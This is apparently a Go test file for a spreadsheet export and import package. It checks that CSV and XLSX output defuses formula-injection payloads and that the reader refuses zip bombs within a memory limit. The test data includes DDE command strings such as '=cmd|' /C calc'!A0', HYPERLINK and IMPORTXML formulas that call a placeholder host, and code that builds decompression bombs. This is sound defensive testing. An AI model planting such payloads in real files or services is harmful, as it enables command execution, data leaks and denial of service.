package sheet

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"errors"
	"fmt"
	"hash/crc32"
	"math/rand/v2"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// payloads are n texts that a spreadsheet would compute, call or open if it took them for more than texts.
func payloads(n int) []string {
	list := []string{"+WOO 嘉湖", "=1+1", "-1", "@SUM(1)", "\tx", "\rx", "=cmd|' /C calc'!A0", `=HYPERLINK("http://x","y")`, "'=1", "''+x", "=", "+", "-", "@", "--2", "+86 138", "=\n1", "＝1+1", " =1"}
	signs, rest := []string{"=", "+", "-", "@", "\t", "\r", "'=", "''@", "=+", "-@"}, []string{"1", "SUM(A1:A9)", "cmd|' /C calc'!A0", `HYPERLINK("http://x"&A1,"y")`, `IMPORTXML("http://x";"//a")`,
		"回收站", "嘉湖", "a,b", `a"b`, "a;b", "a\tb", "DDE(\"x\")", "x'y", "_xlfn.WEBSERVICE(1)"}
	rng := rand.New(rand.NewPCG(7, 8))
	for len(list) < n {
		list = append(list, signs[rng.IntN(len(signs))]+rest[rng.IntN(len(rest))]+fmt.Sprint(len(list))+strings.Repeat(signs[rng.IntN(len(signs))], rng.IntN(2)))
	}
	return list
}

// A thousand payloads: in CSV none begins as a formula does, in XLSX each is a string cell, and our own import reads each as it was.
func TestWriter_payloads(t *testing.T) {
	all := payloads(1000)
	for _, format := range []Format{CSV, XLSX} { // ASVS 1.2.10
		var file bytes.Buffer
		w, err := NewWriter(&file, format)
		noErr(t, err)
		noErr(t, w.Header("编号", "=名称"))
		for i, p := range all {
			noErr(t, w.Row(i, p))
		}
		noErr(t, w.Close())
		table, err := Read(file.Bytes())
		noErr(t, err)
		for i, p := range all {
			if got := table.Cell(i, 1); got != p && got != strings.TrimSpace(p) {
				t.Errorf("%s: %q became %q", format, p, got)
			}
		}
		if format == CSV {
			for _, cell := range cellsOf(t, file.Bytes()) {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("a cell begins with %q: %q", cell[0], cell)
				}
			}
			continue
		}
		f, err := excelize.OpenReader(bytes.NewReader(file.Bytes()))
		noErr(t, err)
		name := f.GetSheetList()[0]
		for i := range all {
			at, _ := excelize.CoordinatesToCellName(2, i+2)
			kind, err := f.GetCellType(name, at)
			formula, ferr := f.GetCellFormula(name, at)
			if err != nil || ferr != nil || formula != "" || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
				t.Errorf("%s: %q is a cell of type %d, formula %q", at, all[i], kind, formula)
			}
		}
		noErr(t, f.Close())
	}
}

// cellsOf splits a CSV file of ours into its cells, as RFC 4180 has them.
func cellsOf(t *testing.T, file []byte) (cells []string) {
	t.Helper()
	cell := regexp.MustCompile(`(?s)("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n)`)
	for _, m := range cell.FindAllStringSubmatch(strings.TrimPrefix(string(file), "\ufeff"), -1) {
		text := m[1]
		if strings.HasPrefix(text, `"`) {
			text = strings.ReplaceAll(text[1:len(text)-1], `""`, `"`)
		}
		cells = append(cells, text)
	}
	if len(cells) < 2000 {
		t.Errorf("only %d cells", len(cells))
	}
	return cells
}

// zipOf returns a ZIP file with parts of so many zeros; if short, it says of each that it has 10. The zeros are packed once and repeated:
// to pack them all takes a minute under the race detector.
func zipOf(t *testing.T, parts map[string]int64, short bool) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	var packed []byte
	var sum uint32
	of := int64(-1)
	for name, n := range parts {
		if n != of {
			packed, sum = packedZeros(t, n)
			of = n
		}
		head := zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: sum, CompressedSize64: uint64(len(packed)), UncompressedSize64: uint64(n)}
		if short {
			head.UncompressedSize64 = 10
		}
		part, err := w.CreateRaw(&head)
		noErr(t, err)
		_, err = part.Write(packed)
		noErr(t, err)
	}
	noErr(t, w.Close())
	return b.Bytes()
}

// packedZeros returns n zeros as DEFLATE packs them, and their checksum.
func packedZeros(t *testing.T, n int64) (packed []byte, sum uint32) {
	t.Helper()
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	noErr(t, err)
	pack := func(zeros []byte) []byte {
		b.Reset()
		_, err := w.Write(zeros)
		noErr(t, errors.Join(err, w.Flush()))
		return bytes.Clone(b.Bytes())
	}
	block := make([]byte, 1<<17)
	whole := pack(block)
	for ; n >= int64(len(block)); n -= int64(len(block)) {
		packed, sum = append(packed, whole...), crc32.Update(sum, crc32.IEEETable, block)
	}
	packed, sum = append(packed, pack(block[:n])...), crc32.Update(sum, crc32.IEEETable, block[:n])
	return append(packed, 3, 0), sum // a last block, of nothing
}

// A file that unpacks to much more than it weighs is refused before it does: how long that took is printed, what it needed is held to 32 MiB.
func TestRead_bombs(t *testing.T) {
	many := map[string]int64{}
	for i := range 2100 {
		many[fmt.Sprintf("xl/worksheets/sheet%d.xml", i)] = 1 << 17
	}
	for name, data := range map[string][]byte{
		"one long part":            zipOf(t, map[string]int64{"xl/styles.xml": MaxUnzip + 1}, false),
		"two thousand parts":       zipOf(t, many, false),
		"one that hides its size":  zipOf(t, map[string]int64{"xl/workbook.xml": 1 << 26}, true),
		"zeros behind a signature": append([]byte("PK\x03\x04"), make([]byte, 1<<20)...),
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		start := time.Now()
		_, err := Read(data)
		took := time.Since(start)
		runtime.ReadMemStats(&after)
		used := (after.TotalAlloc - before.TotalAlloc) >> 10
		t.Logf("%s, %d KiB: refused (%v) in %v with %d KiB", name, len(data)>>10, err, took.Round(100*time.Microsecond), used)
		if err == nil || used > 32<<10 { // ASVS 5.2.3
			t.Errorf("%s: %v with %d KiB", name, err, used)
		}
	}
}

func noErr(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}
